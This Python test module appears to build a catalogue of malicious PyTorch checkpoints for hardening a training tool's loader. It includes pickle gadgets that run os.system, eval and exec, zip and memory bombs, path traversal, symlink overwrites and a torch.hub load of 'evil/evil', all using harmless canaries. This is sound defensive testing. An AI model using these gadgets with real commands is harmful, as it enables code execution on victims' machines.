"""Checkpoints: pickles that call, archives that lie, tensors larger than their file, plain data without end."""

from __future__ import annotations

import io
import os
import pickle
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from typing import Any

import torch

from .attack import Attack, Place
from .runs import a_run, resumable, spoilt


class Call:
    """Pickles to a call of `function`; a function given as (module, name) is not imported here."""

    def __init__(self, function: Any, *args: Any) -> None:
        self._call = (function, args)

    def __reduce__(self) -> Any:
        return self._call


def touch(place: Place) -> str:
    return f"touch {place.canary}"


def named(module: str, name: str, *args: Any) -> bytes:
    """A pickle by hand: GLOBAL module name, its arguments, REDUCE."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + pickle.dumps(args, 2)[2:-1] + b"R."


def archive(place: Place, data: bytes, records: dict[str, bytes] | None = None, deflate: bool = False) -> list[str]:
    """A run whose final.ckpt is a zip archive in torch's layout around this pickle."""
    run = a_run(place)
    path = run / "checkpoints" / "final.ckpt"
    kind = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", kind, compresslevel=1) as z:
        z.writestr("final/data.pkl", data)
        z.writestr("final/byteorder", b"little")
        for name, content in (records or {}).items():
            z.writestr(f"final/{name}", content)
        z.writestr("final/version", b"3\n")
    return [str(run)]


def gadget(make: Callable[[Place], Any]) -> Callable[[Place], list[str]]:
    """A run whose checkpoint is a whole knep checkpoint with an object in it."""

    def build(place: Place) -> list[str]:
        return ["evaluate", *spoilt(place, lambda state: state["knep"].update(extra=make(place)))]

    return build


def by_hand(make: Callable[[Place], bytes], **options: Any) -> Callable[[Place], list[str]]:
    return lambda place: ["evaluate", *archive(place, make(place), **options)]


def foreign(make: Callable[[Place], bytes]) -> Callable[[Place], list[str]]:
    """A run whose checkpoint is these bytes."""

    def build(place: Place) -> list[str]:
        run = a_run(place)
        (run / "checkpoints" / "final.ckpt").write_bytes(make(place))
        return ["evaluate", str(run)]

    return build


class Storage:
    """Stands for a storage in a pickle: saved as a persistent id."""

    def __init__(self, key: str, count: int) -> None:
        self.id = ("storage", torch.FloatStorage, key, "cpu", count)


def with_storages(value: Any) -> bytes:
    class Pickler(pickle.Pickler):
        def persistent_id(self, obj: Any) -> Any:
            return obj.id if isinstance(obj, Storage) else None

    made = io.BytesIO()
    Pickler(made, 2).dump(value)
    return made.getvalue()


def tensor(key: str, count: int, size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0) -> Call:
    rebuild = torch._utils._rebuild_tensor_v2
    return Call(rebuild, Storage(key, count), offset, size, stride, False, OrderedDict())


def laughs(depth: int = 40) -> list[Any]:
    """2 to the power of `depth` leaves in a few bytes."""
    node: list[Any] = ["ha"]
    for _ in range(depth):
        node = [node, node]
    return node


def endless() -> list[Any]:
    node: list[Any] = []
    node.append(node)
    return node


def deep(depth: int) -> bytes:
    """A pickle of lists within lists that no recursion can walk."""
    return b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"."


def bomb(place: Place) -> list[str]:
    """600 MB of zeros in a few MB of file."""
    data = with_storages({"state_dict": {"w": tensor("0", 150 << 20, (150 << 20,), (1,))}, "knep": {}})
    return ["evaluate", *archive(place, data, {"data/0": bytes(600 << 20)}, deflate=True)]


def linked(place: Place) -> list[str]:
    """The file under which a checkpoint is written leads outside."""
    run = a_run(place)
    (run / "checkpoints" / ".last.ckpt.part").symlink_to(place.outside / "secret")
    return [str(run), "trainer.max_epochs=2"]


def script(place: Place) -> list[str]:
    """What torch hands on to its TorchScript reader."""
    run = a_run(place)
    with zipfile.ZipFile(run / "checkpoints" / "final.ckpt", "a") as z:
        root = z.namelist()[0].partition("/")[0]
        z.writestr(f"{root}/constants.pkl", b"\x80\x02).")
        z.writestr(f"{root}/code/__torch__.py", b"def forward(self): ...")
    return ["evaluate", str(run)]


def legacy(place: Place) -> bytes:
    """The format before zip, whose reader takes memory for what the pickle declares."""
    made = io.BytesIO()
    torch.save({"state_dict": {}, "knep": {}}, made, _use_new_zipfile_serialization=False)
    return made.getvalue()


def legacy_gadget(place: Place) -> bytes:
    made = io.BytesIO()
    torch.save({"state_dict": Call(os.system, touch(place))}, made, _use_new_zipfile_serialization=False)
    return made.getvalue()


def polyglot(place: Place) -> bytes:
    """A pickle first, an archive after: one reader takes it for the one, another for the other."""
    made = io.BytesIO()
    torch.save({"state_dict": {}, "knep": {}}, made)
    return pickle.dumps(Call(os.system, touch(place))) + made.getvalue()


def two_data(place: Place) -> list[str]:
    """Two records of one name, the second of which calls."""
    run = a_run(place)
    path = run / "checkpoints" / "final.ckpt"
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as z:
        warnings.simplefilter("ignore")
        name = next(n for n in z.namelist() if n.endswith("data.pkl"))
        z.writestr(name, named("posix", "system", touch(place)))
    return ["evaluate", str(run)]


def _weights(place: Place, change: Callable[[dict[str, Any]], Any]) -> list[str]:
    return ["evaluate", *spoilt(place, change)]


def _resume(change: Callable[[dict[str, Any]], Any]) -> Attack:
    return Attack("resume", lambda place: resumable(place, change), "last.ckpt")


def _versions(value: Any) -> Callable[[dict[str, Any]], None]:
    """Weights whose `_metadata` is this."""

    def change(state: dict[str, Any]) -> None:
        state["state_dict"] = OrderedDict(state["state_dict"])
        state["state_dict"]._metadata = value

    return change


def _moments(make: Callable[[torch.Tensor], Any]) -> Attack:
    """An optimizer's state that is not of its weights: fused kernels look at neither shape nor strides."""

    def change(state: dict[str, Any]) -> None:
        shapes = dict(enumerate(w for w in state["state_dict"].values() if w.is_floating_point()))
        held = {"step": torch.tensor(2.0), "exp_avg": None, "exp_avg_sq": None}
        made = {i: held | {"exp_avg": make(p), "exp_avg_sq": make(p)} for i, p in shapes.items()}
        state["optimizer_states"][0]["state"] = made

    return Attack("resume", lambda place: resumable(place, change), "optimizer_states[0]")


def _kept(path: str) -> Attack:
    def change(state: dict[str, Any]) -> None:
        best = next(v for k, v in state["callbacks"].items() if k.startswith("Best"))
        best.update(best_model_path=path, kth_best_model_path=path, best_k_models={path: torch.tensor(1e9)})

    return Attack("resume", lambda place: resumable(place, change), "callbacks.Best.best_model_path")


def _summary(content: str) -> Attack:
    def build(place: Place) -> list[str]:
        run = a_run(place)
        (run / "summary.json").write_text(content)
        return [str(run), "trainer.max_epochs=2"]

    return Attack("resume", build, "summary.json")


GIANT = 10**13
FINAL = "final.ckpt"


def _call(function: Any, *args: Any) -> Attack:
    return Attack("command", gadget(lambda p: Call(function, *(touch(p) if a is ... else a for a in args))), FINAL)


def _hand(module: str, name: str, *args: Any) -> Attack:
    make = by_hand(lambda p: named(module, name, *(touch(p) if a is ... else a for a in args)))
    return Attack("command", make, FINAL)


def _lie(value: Callable[[], Any], records: dict[str, bytes] | None = None) -> Attack:
    return Attack("command", by_hand(lambda p: with_storages(value()), records=records), FINAL)


def _into(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda state: state["knep"].update({key: value})


ATTACKS = {
    "checkpoint: os.system": _call(os.system, ...),
    "checkpoint: eval": _call(eval, "__import__('os').system('touch ../outside/canary')"),
    "checkpoint: exec": _call(exec, "open('../outside/canary', 'w')"),
    "checkpoint: open for writing": _call(open, "../outside/canary", "w"),
    "checkpoint: open for reading": _call(open, "../outside/secret"),
    "checkpoint: getattr": _hand("builtins", "getattr", "os", "system"),
    "checkpoint: subprocess by name": _hand("subprocess", "getoutput", ...),
    "checkpoint: posix by name": _hand("posix", "system", ...),
    "checkpoint: python 2 names": _hand("__builtin__", "eval", "open('../outside/canary', 'w')"),
    "checkpoint: torch.load by name": _hand("torch.serialization", "load", "../outside/secret"),
    "checkpoint: torch.hub by name": _hand("torch.hub", "load", "evil/evil", "evil"),
    "checkpoint: partial of partial": _hand("functools", "partial", "os.system", ...),
    "checkpoint: operator.methodcaller": _hand("operator", "methodcaller", "system", ...),
    "checkpoint: codecs": _hand("codecs", "open", "../outside/canary", "w"),
    "checkpoint: a class of knep": _hand("knep.data.image_folder", "ImageFolder"),
    "checkpoint: rebuild from a callable type": Attack(
        "command", gadget(lambda p: Call(torch._tensor._rebuild_from_type_v2, os.system, str, (touch(p),), {})), FINAL
    ),
    "checkpoint: rebuild around a gadget": Attack(
        "command",
        gadget(lambda p: Call(torch._utils._rebuild_parameter, Call(os.system, touch(p)), False, OrderedDict())),
        FINAL,
    ),
    "checkpoint: gadget within state": Attack(
        "command", lambda p: _weights(p, lambda s: s["state_dict"].update({"x": [{"y": Call(os.system, touch(p))}]})),
        FINAL,
    ),
    "checkpoint: bytearray of terabytes": _call(bytearray, GIANT),
    "checkpoint: bytearray of 2 GB": _call(bytearray, 2 << 30),
    "checkpoint: torch.FloatTensor of 4 GB": _hand("torch", "FloatTensor", 1 << 30),
    "checkpoint: rebuilt without storage": _hand(
        "torch._utils", "_rebuild_meta_tensor_no_storage", "torch.float32", (GIANT,), (1,), False
    ),
    "checkpoint: storage larger than its record": _lie(
        lambda: {"state_dict": {"w": tensor("0", GIANT, (4,), (1,))}, "knep": {}}, {"data/0": bytes(16)}
    ),
    "checkpoint: reads beyond its storage": _lie(
        lambda: {"state_dict": {"w": tensor("0", 4, (GIANT,), (1,))}, "knep": {}}, {"data/0": bytes(16)}
    ),
    "checkpoint: reads before its storage": _lie(
        lambda: {"state_dict": {"w": tensor("0", 4, (4,), (1,), -4)}, "knep": {}}, {"data/0": bytes(16)}
    ),
    "checkpoint: terabytes by stride 0": _lie(
        lambda: {"state_dict": {"w": tensor("0", 4, (GIANT,), (0,))}, "knep": {}}, {"data/0": bytes(16)}
    ),
    "checkpoint: the storage is not there": _lie(
        lambda: {"state_dict": {"w": tensor("9", 4, (4,), (1,))}, "knep": {}}, {"data/0": bytes(16)}
    ),
    "checkpoint: path in a storage's key": _lie(
        lambda: {"state_dict": {"w": tensor("../../../outside/secret", 4, (4,), (1,))}, "knep": {}}
    ),
    "checkpoint: zip bomb": Attack("command", bomb, FINAL),
    "checkpoint: two records of one name": Attack("command", two_data, FINAL),
    "checkpoint: a pickle before the archive": Attack("command", foreign(polyglot), FINAL),
    "checkpoint: old format": Attack("command", foreign(legacy), FINAL),
    "checkpoint: old format with a gadget": Attack("command", foreign(legacy_gadget), FINAL),
    "checkpoint: bare pickle": Attack("command", foreign(lambda p: pickle.dumps(Call(os.system, touch(p)))), FINAL),
    "checkpoint: TorchScript": Attack("command", script, FINAL),
    "checkpoint: lists a hundred thousand deep": Attack("command", by_hand(lambda p: deep(100_000)), FINAL),
    "checkpoint: pickle that ends early": Attack("command", by_hand(lambda p: b"\x80\x02}"), FINAL),
    "checkpoint: memo of 2 billion": Attack("command", by_hand(lambda p: b"\x80\x02}r\xff\xff\xff\x7f."), FINAL),
    "checkpoint: a text of 4 GB declared": Attack("command", by_hand(lambda p: b"\x80\x02X\xff\xff\xff\xffa."), FINAL),
    "checkpoint: laughs in its config": Attack(
        "command", lambda p: _weights(p, lambda s: s["knep"]["config"].update(extra=laughs())), FINAL
    ),
    "checkpoint: a config that holds itself": Attack(
        "command", lambda p: _weights(p, lambda s: s["knep"]["config"].update(extra=endless())), FINAL
    ),
    "checkpoint: a billion classes": Attack("command", lambda p: _weights(p, _into("num_classes", 10**9)), FINAL),
    "checkpoint: images a million wide": Attack("command", lambda p: _weights(p, _into("image_size", 10**6)), FINAL),
    "checkpoint: classes that are numbers": Attack(
        "command", lambda p: _weights(p, _into("class_names", [1] * 10)), FINAL
    ),
    "checkpoint: a model of terabytes": Attack(
        "command", lambda p: _weights(p, lambda s: s["knep"]["config"]["model"].update(widths=[10**6, 10**6])), FINAL
    ),
    "checkpoint: a model of a million layers": Attack(
        "command", lambda p: _weights(p, lambda s: s["knep"]["config"]["model"].update(widths=[8] * 10**6)), FINAL
    ),
    "checkpoint: weights that are no tensors": Attack(
        "command", lambda p: _weights(p, lambda s: s.update(state_dict=dict.fromkeys(s["state_dict"], "x"))), FINAL
    ),
    "checkpoint: linked to be overwritten": Attack("resume", linked, "leads outside"),
    "checkpoint: versions of text": Attack("command", lambda p: _weights(p, _versions("x")), FINAL),
    "checkpoint: versions of lists": Attack("command", lambda p: _weights(p, _versions({"": [1]})), FINAL),
    "checkpoint: weights under numbers": Attack(
        "command",
        lambda p: _weights(p, lambda s: s.update(state_dict=dict(enumerate(s["state_dict"].values())))),
        FINAL,
    ),
    "checkpoint: weights of whole numbers": Attack(
        "command",
        lambda p: _weights(p, lambda s: s.update(state_dict={k: w.long() for k, w in s["state_dict"].items()})),
        FINAL,
    ),
    "checkpoint: a tensor in its config": Attack(
        "command", lambda p: _weights(p, lambda s: s["knep"]["config"].update(threads=torch.zeros(2))), FINAL
    ),
    "resume: moments of three numbers": _moments(lambda p: torch.zeros(3)),
    "resume: moments that are views of one number": _moments(lambda p: torch.zeros(1).expand(p.shape)),
    "resume: the best file is outside": _kept("../../../outside/secret"),
    "resume: the best file is a folder": _kept("../.."),
    "resume: an epoch of 400 digits": _resume(lambda s: s.update(epoch=10**400)),
    "resume: a schedule with a method's name": _resume(lambda s: s["lr_schedulers"][0].update(step="x")),
    "resume: summary of brackets": _summary("[" * 200_000),
    "resume: summary that counts in words": _summary('{"sealed": "x"}'),
    "resume: no step": _resume(lambda s: s.pop("global_step")),
    "resume: a step that is text": _resume(lambda s: s.update(global_step="many")),
    "resume: loops emptied": _resume(lambda s: s.update(loops={})),
    "resume: loops of text": _resume(lambda s: s.update(loops="x")),
    "resume: no optimizer": _resume(lambda s: s.update(optimizer_states=[])),
    "resume: optimizer of text": _resume(lambda s: s.update(optimizer_states=["x"])),
    "resume: random state too short": _resume(lambda s: s["exact"].update(rng={"cpu": torch.zeros(3)})),
    "resume: random state is gone": _resume(lambda s: s["exact"].update(rng={})),
    "resume: callbacks of text": _resume(lambda s: s.update(callbacks="x")),
    "resume: metrics of text": _resume(lambda s: s["exact"].update(metrics="x")),
}  # fmt: skip
